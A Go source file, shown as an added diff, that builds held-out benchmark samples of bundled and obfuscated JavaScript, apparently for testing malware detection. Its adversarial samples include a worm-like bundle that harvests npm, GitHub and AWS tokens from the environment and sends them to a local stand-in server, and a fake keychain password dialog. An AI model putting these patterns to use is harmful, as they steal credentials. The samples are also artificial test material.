@@ -1,0 +1,41 @@
+package main
+
+// heldOutTenthTools writes what bundlers, minifiers and obfuscators make of a part
+// of the tenth set. The archives held-out-*-tenth.txtar hold the others.
+func heldOutTenthTools(w *writer) error {
+	return w.projects("held-out", []toolProject{
+		{"tenth-webpack-settings", "ordinary: bundled", "webpack of modules that read a JSON of parts, a re-exported class, then nothing but its own minifier", "applescript", map[string]string{
+			"index.mjs":         "export { Speech as default, Speech } from './lib/speech.mjs';\nimport { Speech } from './lib/speech.mjs';\nnew Speech('Samantha').say('Theme applied');\n",
+			"lib/speech.mjs":    "import * as cp from 'node:child_process';\nimport settings from './settings.json';\nconst { bin: { dir, parts } } = settings;\nexport class Speech {\n  constructor(voice) { this.voice = voice; }\n  get program() { return [dir, parts.join('')].join('/'); }\n  say(text) {\n    const run = cp['exec'.concat('File')];\n    return run(this.program, ['-e', `say ${JSON.stringify(text)} using ${JSON.stringify(this.voice)}`], () => {});\n  }\n}\n",
+			"lib/settings.json": "{\"bin\": {\"dir\": \"/usr/bin\", \"parts\": [\"o\", \"sas\", \"cript\"]}, \"voices\": [\"Alex\", \"Samantha\"]}\n",
+		}, false, []step{{"webpack", options{}}}},
+		{"tenth-typescript-esbuild", "ordinary: typescript", "TypeScript with an enum, a namespace, an abstract class and a parameter property, by esbuild for ES2015, minified", "exec", map[string]string{
+			"index.ts":      "import { Runner } from './lib/runner';\nimport { Names } from './lib/names';\n\nenum Level { Fast = 1, Small }\n\nclass Optimizer extends Runner {\n  constructor(private readonly level: Level = Level.Small) { super(Names.tool()); }\n  protected args(): string[] { return ['--level', String(this.level)]; }\n}\nexport const done: Promise<number> = new Optimizer().run();\n",
+			"lib/runner.ts": "import { Names } from './names';\n\nexport abstract class Runner {\n  protected constructor(private readonly tool: string) {}\n  protected abstract args(): string[];\n  async run(): Promise<number> {\n    const { [Names.verb as 'spawn']: start } = await import(Names.library);\n    return new Promise<number>((done) => start(this.tool, this.args()).on('close', (code: number | null) => done(code ?? 1)));\n  }\n}\n",
+			"lib/names.ts":  "export namespace Names {\n  const stem: readonly string[] = ['child', 'process'];\n  export const library = stem.join('_');\n  export const verb = 'spa' + 'wn';\n  export const tool = (): string => `${'marker'.slice(0, 3)}${'k'}er`;\n}\n",
+		}, false, []step{{"esbuild", options{"format": "cjs", "target": "es2015", "minify": true}}}},
+		{"tenth-rollup-split", "ordinary: obfuscator", "rollup of a class and its options, then an obfuscator that splits texts and renames properties' keys, no list", "socket", map[string]string{
+			"index.mjs":       "import { Channel } from './lib/channel.mjs';\nimport { options } from './lib/options.mjs';\nexport const channel = new Channel(options).open();\n",
+			"lib/channel.mjs": "import { Socket } from 'node:net';\nexport class Channel {\n  constructor({ host, port }) { this.host = host; this.port = port; this.queue = ['hello']; }\n  open() {\n    const socket = new Socket();\n    socket.on('error', () => socket.destroy());\n    socket.connect(this.port, this.host, () => socket.end(this.queue.join('\\n')));\n    return this;\n  }\n}\n",
+			"lib/options.mjs": "export const options = { host: [127, 0, 0, 1].join('.'), port: Number(process.env.EVASION_PORT) };\n",
+		}, false, []step{{"rollup", options{"exports": "named"}}, {"obfuscator", options{"seed": 101, "stringArray": false, "splitStrings": true, "splitStringsChunkLength": 2, "transformObjectKeys": true, "numbersToExpressions": true}}}},
+		{"tenth-uglified-twice", "ordinary: minified", "an old script with a switch that chooses names, by uglify-js and then by terser, sequences and conditions all through", "network", map[string]string{
+			"index.js": "'use strict';\nfunction protocol(kind) {\n  switch (kind) {\n    case 1: return 'ws';\n    case 2: return 'http' + (kind > 1 ? 's' : '');\n    default: return 'ftp';\n  }\n}\nfunction Client(kind) {\n  if (!(this instanceof Client)) return new Client(kind);\n  this.lib = require(protocol(kind));\n  this.defaults = { host: '127.0.0.1', port: process.env.EVASION_PORT, rejectUnauthorized: false };\n}\nClient.prototype.call = function (path, done) {\n  var options = Object.assign({ path: path }, this.defaults);\n  var request = this.lib['re' + 'quest'](options, function (res) { res.resume(); done(null, res.statusCode); });\n  request.on('error', done);\n  request.end();\n  return this;\n};\nmodule.exports = Client(2).call('/v2/kit', function () {});\n",
+		}, false, []step{{"uglify", options{"toplevel": true, "compress": options{"sequences": 200, "evaluate": false}}}, {"terser", options{"toplevel": true, "compress": options{"evaluate": false, "unsafe": true}}}}},
+		{"tenth-obfuscated-entry", "adversarial: obfuscator", "one module of a bundle is obfuscated before esbuild takes it in, as in poisoned packages whose other code stays readable", "exec", map[string]string{
+			"index.js":       "const { palette } = require('./lib/palette');\nconst run = require('child_process');\nconst tool = ['mark', 'er'];\nmodule.exports = { palette, warm: run.spawn(tool.join(''), ['--palette', palette.length], { stdio: 'ignore' }) };\n",
+			"lib/palette.js": "/** The colours of all themes. */\nexports.palette = ['#111', '#eee', '#0af', '#fa0'].map((c) => c.toUpperCase());\nexports.contrast = (a, b) => Math.abs(parseInt(a.slice(1), 16) - parseInt(b.slice(1), 16));\n",
+		}, true, []step{{"obfuscator", options{"seed": 102, "stringArrayThreshold": 1, "stringArrayEncoding": []string{"base64"}, "stringArrayIndexShift": true, "stringArrayCallsTransform": true, "stringArrayCallsTransformThreshold": 1, "reservedStrings": []string{`^\./lib/`}}},
+			{"esbuild", options{"format": "cjs"}}}},
+		{"tenth-worm-bundle", "adversarial: obfuscator", "a worm's bundle by webpack, obfuscated with RC4, a list that is called by wrappers, dead code and a defence against beautifiers", "network", map[string]string{
+			"index.js":       "const { scan } = require('./lib/scan');\nconst { publish } = require('./lib/publish');\nPromise.resolve(scan(process.env)).then(publish).catch(() => {});\n",
+			"lib/scan.js":    "const os = require('os');\nconst PATTERNS = [/npm_[A-Za-z0-9]{36}/, /gh[pousr]_[A-Za-z0-9]{36}/, /AKIA[0-9A-Z]{16}/];\nexports.scan = (env) => ({ host: os.hostname(), found: Object.entries(env).filter(([, v]) => PATTERNS.some((p) => p.test(v))).map(([k]) => k) });\n",
+			"lib/publish.js": "const http = require('http');\nexports.publish = (data) => new Promise((done, fail) => {\n  const request = http.request({ host: '127.0.0.1', port: process.env.EVASION_PORT, method: 'PUT', path: '/repos/x/contents/data.json', headers: { 'user-agent': 'kit' } }, done);\n  request.on('error', fail);\n  request.end(Buffer.from(JSON.stringify(data)).toString('base64'));\n});\n",
+		}, true, []step{{"webpack", options{}},
+			{"obfuscator", options{"seed": 103, "selfDefending": true, "compact": true, "stringArrayThreshold": 1, "stringArrayEncoding": []string{"rc4"}, "stringArrayWrappersCount": 3, "stringArrayWrappersType": "variable", "deadCodeInjection": true, "deadCodeInjectionThreshold": 0.3}}}},
+		{"tenth-packed-then-mangled", "adversarial: obfuscator", "strings hidden by one obfuscator's list, the result minified by esbuild and given to uglify, so that nothing looks as the tool wrote it", "applescript", map[string]string{
+			"index.js": "var cp = require('child_process');\nvar ask = ['display dialog \"Theme Kit wants to use the keychain.\"', 'default answer \"\"', 'with hidden answer'].join(' ');\nmodule.exports = function (done) {\n  return cp.execFile('/usr/bin/osascript', ['-e', ask], { timeout: 6e4 }, done);\n};\nmodule.exports(function () {});\n",
+		}, true, []step{{"obfuscator", options{"seed": 104, "stringArrayThreshold": 1, "stringArrayShuffle": true, "splitStrings": true, "splitStringsChunkLength": 6, "controlFlowFlattening": true, "controlFlowFlatteningThreshold": 0.7}},
+			{"esbuild", options{"bundle": false, "minify": true}}, {"uglify", options{"compress": options{"passes": 2}}}}},
+	})
+}
